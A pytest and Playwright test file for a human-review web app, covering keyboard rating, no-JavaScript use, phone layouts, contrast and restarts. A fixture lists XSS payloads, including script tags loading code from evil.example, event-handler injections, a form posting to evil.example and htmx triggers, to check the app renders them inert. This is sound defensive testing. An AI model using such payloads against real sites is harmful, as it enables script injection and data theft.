"""The app as people meet it: the real command, headless Chromium, keys, a phone, no JavaScript, and hostile items."""

from collections import Counter
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from acidtest.data.rating_files import read_ratings
from acidtest.data.read import write_records
from acidtest.data.run_folder import RunFolder
from acidtest.types import Item
from review.running import Served, running_review, served_review
from review_run import GENERATED, write_run

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

QUEUES = ("--queue", "rate,choose,answer,adjudicate")
HOSTILE = {
    "script": "</div><script>alert(1)</script><script src=https://evil.example/x.js></script>",
    "handler": "<img src=https://evil.example/p.png onerror=alert(2)><svg onload=alert(3)><b onclick=alert(4)>b</b>",
    "attribute": "\"'><input autofocus onfocus=alert(5)> ${7*7} {{7*7}} {% raw %}",
    "form": "<form action=https://evil.example method=post><button>Send</button></form><a href=javascript:alert(6)>go",
    "direction": "\u202etxt.exe\u202c \u2066hidden\u2069 \u0645\u0631\u062d\u0628\u0627",
    "nothing": "NUL \x00, bell \x07, escape \x1b[31m, \ufffe",
    "htmx": '<div hx-get="https://evil.example" hx-trigger="load" data-hx-on:load="alert(7)">x</div>',
    "long": "w" * 10_000_000,
}
TELLTALES = ("synthetic", "model-x", "people's questions", "p0-", "g0-", "bundle")
OVERFLOWING = """() => [...document.querySelectorAll('body *')]
  .filter(e => !e.closest('.scroll, .skip, dialog') && e.getBoundingClientRect().right > innerWidth + 1)
  .map(e => e.outerHTML.slice(0, 120))"""
NARROW_WORDS = """() => [...document.querySelectorAll('td, thead th')].filter(cell => {
    const range = document.createRange();
    const words = document.createTreeWalker(cell, NodeFilter.SHOW_TEXT);
    for (let node = words.nextNode(); node; node = words.nextNode())
      for (const word of node.data.matchAll(/\\w+/g)) {
        range.setStart(node, word.index);
        range.setEnd(node, word.index + word[0].length);
        if (range.getClientRects().length > 1) return true;
      }
    return false;
  }).map(cell => cell.outerHTML)"""
GROUNDS = """() => ['h1', '.how-far label', '.label', '.text', 'legend', '.soft', '.mark span', '.button', '.plain',
  '.guideline p', '.outcome', '.bar nav a', 'input:checked + span'].map(selector => {
    const words = document.querySelector(selector);
    const clear = e => getComputedStyle(e).backgroundColor === 'rgba(0, 0, 0, 0)';
    let ground = words;
    while (clear(ground)) ground = ground.parentElement;
    return [selector, getComputedStyle(words).color, getComputedStyle(ground).backgroundColor]; })"""
ACTION = "document.querySelector('form.work').getAttribute('action')"
FOCUS = """() => { const box = document.activeElement;
  return [box.name, box.value, getComputedStyle(box.nextElementSibling).outlineStyle]; }"""


@pytest.fixture
def run(tmp_path: Path) -> RunFolder:
    return write_run(tmp_path / "run")


class Seen:
    """A person's page, and everything that it complained about or asked elsewhere for."""

    def __init__(self, browser: "Browser", review: Served, name: str, **context: Any) -> None:
        self.heard: list[str] = []
        self.context = browser.new_context(**{"viewport": {"width": 1280, "height": 860}, **context})
        self.page: Page = self.context.new_page()
        self.page.on("console", lambda message: self.heard.append(message.text))
        self.page.on("pageerror", lambda error: self.heard.append(str(error)))
        self.page.on("dialog", lambda dialog: self.heard.append(dialog.message))
        self.page.on("request", lambda request: self.hear(request.url, review.address))
        self.page.goto(review.links[name])
        self.page.get_by_role("button", name="Begin").click()
        self.page.wait_for_url(lambda url: "/enter" not in url)

    def hear(self, url: str, own: str) -> None:
        if not url.startswith(own + "/"):
            self.heard.append(url)

    def press(self, *keys: str) -> None:
        for key in keys:
            self.page.keyboard.press(key)

    def send(self, *keys: str) -> None:
        """Press keys and Enter, and wait for the next page of work, or its end."""
        with self.page.expect_response(lambda answer: answer.request.method == "POST"):
            self.press(*keys, "Enter")
        self.page.wait_for_function("() => !document.querySelector('form.htmx-request')")
        self.page.wait_for_timeout(60)


def test_rating_by_keys_alone(browser: "Browser", run: RunFolder) -> None:
    with running_review(run.root, *QUEUES) as review:
        ann = Seen(browser, review, "ann")
        page = ann.page
        page.goto(f"{review.address}/queue/rate")
        assert page.evaluate(FOCUS) == ["mark-sensible", "yes", "solid"]  # the first question, and it shows
        ann.press("y", "n")
        assert page.inner_text("#outcome") == "So far: invalid"
        ann.press("k", "y")  # back to the second question: it can be changed
        ann.press("y", "u")
        assert page.inner_text("#outcome") == "So far: valid"
        assert page.locator(".criterion.current legend").inner_text().startswith("Does answering need")
        ann.press("o")
        page.keyboard.type("yes, no and z are letters here")
        first = page.evaluate(ACTION)
        with page.expect_response(lambda answer: answer.request.method == "POST"):
            ann.press("Control+Enter")
        page.wait_for_function(
            "first => document.querySelector('form.work').getAttribute('action') !== first", arg=first
        )
        assert page.evaluate(FOCUS)[0] == "mark-sensible"  # the next item, its first question
        assert page.url == f"{review.address}/queue/rate"
        ann.press("z")
        page.wait_for_function(
            "first => document.querySelector('form.work').getAttribute('action') === first", arg=first
        )
        assert page.input_value("#note") == "yes, no and z are letters here"
        assert "You sent this before" in page.inner_text(".notices")
        ann.press("ArrowDown", "n")
        ann.send()
        ann.press("?")
        assert page.locator("dialog#keys").is_visible()
        ann.press("Escape")
        assert not page.locator("dialog#keys").is_visible()
        ann.press("y", "Enter")  # three are missing: it is not sent, and the first of them is next
        assert page.evaluate(FOCUS)[0] == "mark-answerable"
        assert "1 done" in page.inner_text(".how-far")
        assert ann.heard == []
        exit_code, _, complaints = review.interrupt()
    assert (exit_code, complaints) == (130, "")
    (rating,) = read_ratings(run.people)
    assert rating.marks == {"sensible": "yes", "answerable": "no", "right": "yes", "skill": "unsure"}
    assert rating.note == "yes, no and z are letters here"


def test_a_double_click_counts_once_and_a_mouse_is_enough(browser: "Browser", run: RunFolder) -> None:
    with served_review(run.root) as review:
        ann = Seen(browser, review, "ann")
        ann.page.get_by_role("link", name="Rate items").first.click()
        for question in ann.page.locator("fieldset").all():
            question.get_by_role("radio", name="Yes").check()
        ann.page.get_by_role("button", name="Send").dblclick()
        ann.page.get_by_text("1 done").wait_for()
        ann.page.get_by_role("button", name="Take back").click()
        ann.page.get_by_text("0 done").wait_for()
        ann.page.get_by_role("button", name="Send").click()
        ann.page.get_by_text("1 done").wait_for()
        assert ann.heard == []
    assert len(read_ratings(run.people)) == 1


def test_everything_works_without_javascript(browser: "Browser", run: RunFolder) -> None:
    with served_review(run.root) as review:
        ann = Seen(browser, review, "ann", java_script_enabled=False)
        page = ann.page
        page.goto(f"{review.address}/queue/rate")
        for question in page.locator("fieldset").all():
            question.get_by_role("radio", name="No").check()
        page.get_by_role("button", name="Send").click()
        assert "1 done" in page.inner_text(".how-far")
        page.get_by_role("button", name="Take back").click()
        assert page.get_by_role("radio", name="No").first.is_checked()
        page.get_by_role("button", name="Send").click()
        page.goto(f"{review.address}/queue/choose")
        page.get_by_role("radio", name="No difference").check()
        page.get_by_role("button", name="Send").click()
        page.goto(f"{review.address}/queue/answer")
        page.get_by_role("radio", name="don't know").check()
        page.get_by_role("button", name="Send").click()
        page.get_by_role("link", name="Keys").click()
        assert page.get_by_role("heading", name="Keys").is_visible()
        assert ann.heard == []
    assert len(read_ratings(run.people)) == 1
    assert len(run.choices.read_text("utf-8").splitlines()) == 1
    (answers,) = (run.root / "responses").glob("*/human.ann.jsonl")
    assert '"text":"don\'t know"' in answers.read_text("utf-8")


def rate_one_each(review: Served, *people: tuple[Seen, str]) -> None:
    for seen, key in people:
        seen.page.goto(f"{review.address}/queue/rate")
        seen.send(*key * 4)


def test_what_did_not_arrive_is_said_and_stays_on_the_page(browser: "Browser", run: RunFolder) -> None:
    with served_review(run.root) as review:
        ann = Seen(browser, review, "ann")
        page = ann.page
        page.goto(f"{review.address}/queue/rate")
        for _ in range(3):
            page.keyboard.down("n")  # held down: pressed once
        page.keyboard.up("n")
        assert page.evaluate(FOCUS)[0] == "mark-answerable"
        ann.press(*"nnn")
        page.fill("#note", "long thought about")
        cookies = ann.context.cookies()
        ann.context.clear_cookies()
        page.get_by_role("button", name="Send").click()
        page.get_by_text("Not sent; what you entered is still here. Open the link that was sent to you.").wait_for()
        assert page.input_value("#note") == "long thought about"
        ann.context.add_cookies([{**cookie, "url": review.address, "domain": None, "path": None} for cookie in cookies])
        ann.context.set_offline(offline=True)
        page.get_by_role("button", name="Send").click()
        page.get_by_text("The server does not answer.").wait_for()
        ann.context.set_offline(offline=False)
        page.get_by_role("button", name="Send").click()
        page.get_by_text("1 done").wait_for()
        assert page.locator("#trouble").is_hidden()
    (rating,) = read_ratings(run.people)
    assert (set(rating.marks.values()), rating.note) == ({"no"}, "long thought about")


def test_pages_fit_a_phone_and_words_stand_out(browser: "Browser", run: RunFolder) -> None:
    """320 pixels are the narrowest that WCAG 2.2 asks for; contrast of at least 4.5 is its level AA."""
    with served_review(run.root) as review:
        phone = {"width": 320, "height": 640}
        ann, bob, owner = (Seen(browser, review, name, viewport=phone) for name in ("ann", "bob", "owner"))
        rate_one_each(review, (ann, "y"), (bob, "n"))
        pages = [(ann, path) for path in ("", "queue/rate", "queue/choose", "queue/answer", "queue/adjudicate", "keys")]
        for seen, path in [*pages, (owner, "progress"), (owner, "queue/adjudicate")]:
            seen.page.goto(f"{review.address}/{path}")
            assert seen.page.evaluate("document.documentElement.scrollWidth") == 320, path
            assert seen.page.evaluate(OVERFLOWING) == [], path
            assert seen.page.evaluate(NARROW_WORDS) == [], path
        bob.page.goto(f"{review.address}/queue/rate")
        bob.press("y")
        for scheme in ("light", "dark"):
            bob.page.emulate_media(color_scheme=scheme)
            for selector, ink, ground in bob.page.evaluate(GROUNDS):
                low, high = sorted((luminance(ink), luminance(ground)))
                assert (high + 0.05) / (low + 0.05) >= 4.5, (scheme, selector)
        assert ann.heard + bob.heard + owner.heard == []


def luminance(colour: str) -> float:
    """Relative luminance as WCAG 2.2 defines it."""
    parts = [float(part) / 255 for part in colour.removeprefix("rgb(").removesuffix(")").split(",")]
    red, green, blue = (p / 12.92 if p <= 0.04045 else ((p + 0.055) / 1.055) ** 2.4 for p in parts)
    return 0.2126 * red + 0.7152 * green + 0.0722 * blue


def test_hostile_items_are_shown_and_do_nothing(browser: "Browser", run: RunFolder) -> None:
    hostile = [
        Item(id=name, input={"passage": text, "question": f"Item {name}?"}, target="no")
        for name, text in HOSTILE.items()
    ]
    write_records(run.synthetic(GENERATED), hostile)
    with served_review(run.root) as review:
        ann, owner = Seen(browser, review, "ann"), Seen(browser, review, "owner")
        shown: dict[str, str] = {}
        for queue, keys, count in (("answer", "1", 2), ("rate", "yyyy", 12), ("choose", "a", 8)):
            ann.page.goto(f"{review.address}/queue/{queue}")
            for _ in range(count):
                texts = ann.page.locator(".text").all_inner_texts()
                shown |= dict(zip(texts[1::3], texts[::3], strict=False))  # passage, question, answer
                ann.send(*keys)
        owner.page.reload()
        assert owner.page.locator("h1").inner_text() == "How the review stands"
        assert ann.heard + owner.heard == []
        assert ann.page.url.startswith(review.address)
    assert shown["Item script?"] == HOSTILE["script"]
    assert shown["Item handler?"] == HOSTILE["handler"]
    assert shown["Item attribute?"] == HOSTILE["attribute"]
    assert "\u202e" not in shown["Item direction?"]
    assert shown["Item nothing?"] == "NUL \ufffd, bell \ufffd, escape \ufffd[31m, \ufffd"
    assert shown["Item long?"].endswith("(cut: 10,000,000 characters in all)")


def test_two_people_at_once_and_a_restart_lose_nothing(browser: "Browser", run: RunFolder) -> None:
    """That nothing is lost by a kill, either, is a test of its own: see test_load.py."""
    with served_review(run.root) as review:
        ann, bob = Seen(browser, review, "ann"), Seen(browser, review, "bob")
        for _ in range(3):
            rate_one_each(review, (ann, "y"), (bob, "u"))
        cookies = ann.context.cookies()
        assert {(cookie["httpOnly"], cookie["sameSite"]) for cookie in cookies} == {(True, "Strict")}
    with served_review(run.root) as review:
        again = browser.new_context()
        again.add_cookies([{**cookie, "url": review.address, "domain": None, "path": None} for cookie in cookies])
        page = again.new_page()
        page.goto(f"{review.address}/queue/rate")
        assert "3 done, 5 left for you" in page.inner_text(".how-far")
    assert Counter(rating.rater for rating in read_ratings(run.people)) == {"ann": 3, "bob": 3}


def test_a_blind_choice_tells_nothing_and_is_kept_by_kind(browser: "Browser", run: RunFolder) -> None:
    with served_review(run.root, "choose", names=("ann",)) as review:
        ann = Seen(browser, review, "ann")
        ann.page.goto(f"{review.address}/queue/choose")
        contents = []
        for _ in range(4):
            contents.append(ann.page.content())
            ann.send("b")
        assert ann.page.locator("h1").inner_text() == "Nothing is left for you here"
        assert ann.heard == []
    kept = run.choices.read_text("utf-8")
    assert kept.count('"preferred":"real"') + kept.count('"preferred":"synthetic"') == 4
    for content in contents:
        assert not any(
            word in content for word in ("synthetic", "model-x", "people's questions", "p0-", "g0-", "bundle")
        )
